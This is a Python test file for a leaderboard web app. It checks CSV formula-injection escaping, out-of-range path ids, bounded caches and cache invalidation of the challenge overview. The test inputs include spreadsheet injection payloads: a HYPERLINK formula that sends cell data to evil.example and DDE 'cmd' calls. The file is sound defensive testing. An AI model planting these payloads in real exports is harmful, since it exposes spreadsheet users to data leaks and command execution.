"""Public surfaces under hostile input: CSV formula injection, bounded leaderboard caches, the cached
challenge overview, and integer path ids out of the database's range (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from api.db import session_scope
from leaderboard_web.seed import add_submission
from tests.leaderboard_helpers import arr, at, cases, make_app, make_challenge, make_team

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", " =1+1"]


@pytest.fixture
def app(settings):
    return make_app(settings)


@pytest.fixture
def client(app):
    with TestClient(app) as c:
        yield c


def _board_with_labels(url: str, labels: list[str], *, team_names: list[str] | None = None, slug: str = "c1") -> None:
    cs = cases(4)
    with session_scope(url) as s:
        tr = make_challenge(s, slug=slug)["main"]
        for i, label in enumerate(labels):
            team = make_team(s, (team_names or [])[i] if team_names and i < len(team_names) else f"team {slug} {i}")
            add_submission(s, track=tr, team=team, cases=cs, dsc=arr(0.9, 0.8, 0.7, 0.6 - i / 100),
                           nsd=arr(0.9, 0.8, 0.7, 0.6), runtime=arr(1, 2, 3, 4), label=label, created_at=at(i))


def test_public_csv_neutralises_formulas_in_labels_and_team_names(client, settings):
    """A label or team name that a spreadsheet would run (=, +, -, @, tab, CR first) is quoted with a leading
    apostrophe in the public CSV, exactly as the organizers' export does it (one function); numbers stay numbers."""
    from api.csvsafe import csv_safe

    _board_with_labels(settings.database_url, HOSTILE, team_names=["=cmd|' /C calc'!A0", "@team"])
    r = client.get("/api/challenges/c1/tracks/main/leaderboard.csv")
    assert r.status_code == 200, r.text
    table = list(csv.reader(io.StringIO(r.text, newline="")))
    head, rows = table[0], table[1:]
    label_col, team_col = head.index("Submission"), head.index("Team")
    labels = sorted(row[label_col] for row in rows)
    assert labels == sorted("'" + h for h in HOSTILE), labels
    teams = {row[team_col] for row in rows}
    assert "'=cmd|' /C calc'!A0" in teams and "'@team" in teams
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                float(cell)  # only numbers may start with '-'
    # one function for both CSVs: the organizers' export keeps using it
    from api.admin import service as admin_service

    assert admin_service.csv_safe is csv_safe
    assert csv_safe("-0.012") == "-0.012" and csv_safe("+3") == "+3" and csv_safe("-x") == "'-x"
    assert csv_safe("plain label") == "plain label"


# --------------------------------------------------------------------------- integer path ids


@pytest.mark.parametrize("backend", ["sqlite", "postgres"])
def test_integer_path_ids_out_of_the_database_range_are_clean_errors(backend, settings, request):
    """Every integer path id (API and pages) is bounded to the INTEGER column range: 2**63, 2**31 (PostgreSQL
    INTEGER overflows past 2**31-1), 0 and -1 give 404/422 with a JSON {code, message}, never a 500."""
    from api.params import MAX_ID

    if backend == "postgres":
        settings.database_url = request.getfixturevalue("migrated_postgres_url")  # make_app does not migrate
    from tests.api_helpers import seed

    app = make_app(settings)
    with TestClient(app, raise_server_exceptions=False) as client:
        w = seed(settings.database_url)
        org = {"Authorization": f"Bearer {w.token_org}"}
        ids = [2**63, 2**63 - 1, 2**31, MAX_ID + 1, 0, -1, 10**40]
        paths = [
            "/submissions/{}", "/admin/runs/{}",  # pages
            "/api/submissions/{}", "/api/submissions/{}/logs", "/api/submissions/{}/results",
            "/api/admin/submissions/{}",
        ]
        posts = ["/api/submissions/{}/cancel", "/api/admin/submissions/{}/rerun", "/api/tokens/{}/revoke",
                 "/api/members/{}/tokens", "/api/teams/{}/members"]
        for i in ids:
            for p in paths:
                r = client.get(p.format(i), headers=org)
                assert r.status_code in (404, 422), (p.format(i), r.status_code, r.text[:300])
                if r.status_code == 422:
                    body = r.json()
                    assert body["code"] and body["message"], body
            for p in posts:
                r = client.post(p.format(i), headers=org, json={"name": "x", "email": "x@example.org"})
                assert r.status_code in (404, 422), (p.format(i), r.status_code, r.text[:300])
        # in range and missing: 404 on PostgreSQL as on SQLite
        assert client.get(f"/submissions/{MAX_ID}", headers=org).status_code == 404
        assert client.get(f"/admin/runs/{MAX_ID}", headers=org).status_code == 404
        assert client.get(f"/api/submissions/{MAX_ID}", headers=org).status_code == 404


# --------------------------------------------------------------------------- bounded caches


def test_thousands_of_distinct_404s_leave_the_leaderboard_caches_within_their_bound(settings):
    """Cache keys come from the request path: a 404 (unknown challenge or track) is never cached, and the
    caches of existing boards are LRU-bounded by SEGARENA_LEADERBOARD_CACHE_ENTRIES."""
    from api.leaderboard import cache

    settings.leaderboard_cache_entries = 8
    app = make_app(settings)
    _board_with_labels(settings.database_url, ["a", "b"], slug="c1")
    with session_scope(settings.database_url) as s:
        make_challenge(s, slug="c2", tracks={f"t{i}": {} for i in range(6)})
    with TestClient(app) as client:
        for i in range(250):  # 1,000 distinct 404 requests
            slug = f"nope-{i:05d}-{'x' * 40}"
            for path in (f"/challenges/c1/tracks/{slug}", f"/api/challenges/{slug}/tracks/main/leaderboard",
                         f"/api/challenges/c1/tracks/{slug}/leaderboard.csv", f"/challenges/{slug}"):
                assert client.get(path).status_code == 404, path
        assert len(cache.entries) == 0 and len(cache.boards) == 0
        # real boards: more keys than the bound, every one still answers, the caches stay at the bound
        paths = [f"/challenges/c2/tracks/t{i}" for i in range(6)] + \
                [f"/api/challenges/c2/tracks/t{i}/leaderboard" for i in range(6)] + \
                ["/challenges/c1", "/challenges/c2", "/api/challenges/c1/tracks/main/leaderboard.csv"]
        for _ in range(2):
            for path in paths:
                assert client.get(path).status_code == 200, path
                assert len(cache.entries) <= 8 and len(cache.boards) <= 8
        assert len(cache.entries) == 8
        # the most recent entry is served from the cache (same ETag → 304)
        r = client.get(paths[-1])
        assert client.get(paths[-1], headers={"If-None-Match": r.headers["etag"]}).status_code == 304


def test_a_track_that_becomes_hidden_is_not_served_from_the_cache(client, settings):
    """Dropping 404s from the cache must also drop what their key served before (no stale 200)."""
    from api import leaderboard as lb
    from api.models import Visibility

    _board_with_labels(settings.database_url, ["a"], slug="c1")
    assert client.get("/api/challenges/c1/tracks/main/leaderboard").status_code == 200
    with session_scope(settings.database_url) as s:
        tr = s.scalars(select_track()).one()
        tr.visibility = Visibility.hidden
        tid = tr.id
    lb.invalidate(tid)
    for _ in range(3):
        assert client.get("/api/challenges/c1/tracks/main/leaderboard").status_code == 404


def select_track():
    from sqlalchemy import select

    from api.models import Track

    return select(Track)


# --------------------------------------------------------------------------- the challenge overview


class _Queries:
    def __init__(self, url: str):
        from sqlalchemy import event

        from api.db import get_engine

        self.engine, self.n = get_engine(url), 0
        event.listen(self.engine, "before_cursor_execute", self._count)

    def _count(self, *_a, **_k) -> None:
        self.n += 1

    def close(self) -> None:
        from sqlalchemy import event

        event.remove(self.engine, "before_cursor_execute", self._count)


def test_challenge_overview_is_cached_and_invalidated_like_a_track_page(client, settings):
    """The public overview renders once per board version: a second request runs no SQL at all, and it
    shows new results after a change that invalidates the track pages (invalidate(), or the TTL revalidation)."""
    from api import leaderboard as lb
    from api.leaderboard import cache

    _board_with_labels(settings.database_url, ["first-label"], slug="c1")
    first = client.get("/challenges/c1")
    assert first.status_code == 200 and "team c1 0" in first.text
    q = _Queries(settings.database_url)
    try:
        again = client.get("/challenges/c1")
        assert again.status_code == 200 and again.text == first.text
        assert q.n == 0, f"the cached overview ran {q.n} queries"
    finally:
        q.close()
    assert client.get("/challenges/c1", headers={"If-None-Match": first.headers["etag"]}).status_code == 304
    # a new result on the board: invalidate() (what scoring calls) makes the next request rebuild
    with session_scope(settings.database_url) as s:

        tr = s.scalars(select_track()).one()
        team = make_team(s, "newcomer team")
        add_submission(s, track=tr, team=team, cases=cases(4), dsc=arr(0.99, 0.99, 0.99, 0.99),
                       nsd=arr(0.9, 0.9, 0.9, 0.9), runtime=arr(1, 1, 1, 1), label="new", created_at=at(5))
        tid = tr.id
    lb.invalidate(tid)
    assert "newcomer team" in client.get("/challenges/c1").text
    # without invalidate(): the TTL revalidation notices the new board version
    with session_scope(settings.database_url) as s:
        tr = s.scalars(select_track()).one()
        add_submission(s, track=tr, team=make_team(s, "late team"), cases=cases(4), dsc=arr(1, 1, 1, 1),
                       nsd=arr(1, 1, 1, 1), runtime=arr(1, 1, 1, 1), label="late", created_at=at(6))
    import time

    time.sleep(cache.CACHE_TTL_S + 0.1)
    assert "late team" in client.get("/challenges/c1").text
    # a signed-in organizer still gets a fresh page, unknown challenges are 404 and not cached
    assert client.get("/challenges/nope").status_code == 404
    assert not any(k[1] == "nope" for k in cache.entries.keys())  # noqa: SIM118 - a method
